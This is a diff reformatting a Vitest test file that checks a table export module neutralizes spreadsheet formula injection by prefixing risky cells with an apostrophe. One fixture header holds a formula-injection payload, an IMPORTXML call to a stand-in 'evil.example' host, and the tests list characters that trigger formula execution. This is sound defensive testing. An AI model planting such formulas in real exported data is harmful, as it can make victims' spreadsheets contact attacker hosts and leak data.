@@ -1,7 +1,23 @@
 import { describe, expect, it } from 'vitest';
 import { neutralize, safeRows, toCsv, type Table } from '@core/jury/table';
 
-const FORMULA_STARTS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20', '\uFE66', '\uFE62', '\uFE63', '\uFE6B'];
+const FORMULA_STARTS = [
+  '=',
+  '+',
+  '-',
+  '@',
+  '\t=',
+  '\r=',
+  '\n=',
+  '\uFF1D',
+  '\uFF0B',
+  '\uFF0D',
+  '\uFF20',
+  '\uFE66',
+  '\uFE62',
+  '\uFE63',
+  '\uFE6B',
+];
 
 describe('cells a spreadsheet would run as formulas', () => {
   it.each(FORMULA_STARTS)('a cell starting with %j gets a leading apostrophe', (start) => {
@@ -9,17 +25,28 @@ describe('cells a spreadsheet would run as formulas', () => {
   });
 
   it('leaves other text as it is, formula characters inside it included', () => {
-    for (const text of ['Modèle solide', '4 = 2 + 2', 'x@y.fr', '', "'déjà neutre", ' =espace devant']) expect(neutralize(text)).toBe(text);
+    for (const text of ['Modèle solide', '4 = 2 + 2', 'x@y.fr', '', "'déjà neutre", ' =espace devant'])
+      expect(neutralize(text)).toBe(text);
   });
 
   it('neutralizes the header row as well as the rows, in CSV and in the rows a spreadsheet writer is given', () => {
-    const table: Table = { headers: ['Rank', '＝IMPORTXML("http://evil.example")', '﹦1+1'], rows: [[1, '+33 bénéficiaires', '@chair'], [2, null, 'fine']] };
+    const table: Table = {
+      headers: ['Rank', '＝IMPORTXML("http://evil.example")', '﹦1+1'],
+      rows: [
+        [1, '+33 bénéficiaires', '@chair'],
+        [2, null, 'fine'],
+      ],
+    };
     expect(safeRows(table)).toEqual([
       ['Rank', '\'＝IMPORTXML("http://evil.example")', "'﹦1+1"],
       [1, "'+33 bénéficiaires", "'@chair"],
       [2, null, 'fine'],
     ]);
-    expect(toCsv(table, 'rfc4180')).toBe('Rank,"\'＝IMPORTXML(""http://evil.example"")",\'﹦1+1\r\n1,\'+33 bénéficiaires,\'@chair\r\n2,,fine\r\n');
-    expect(toCsv(table, 'excel-fr').startsWith('\uFEFFRank;"\'＝IMPORTXML(""http://evil.example"")";\'﹦1+1\r\n')).toBe(true);
+    expect(toCsv(table, 'rfc4180')).toBe(
+      'Rank,"\'＝IMPORTXML(""http://evil.example"")",\'﹦1+1\r\n1,\'+33 bénéficiaires,\'@chair\r\n2,,fine\r\n',
+    );
+    expect(toCsv(table, 'excel-fr').startsWith('\uFEFFRank;"\'＝IMPORTXML(""http://evil.example"")";\'﹦1+1\r\n')).toBe(
+      true,
+    );
   });
 });
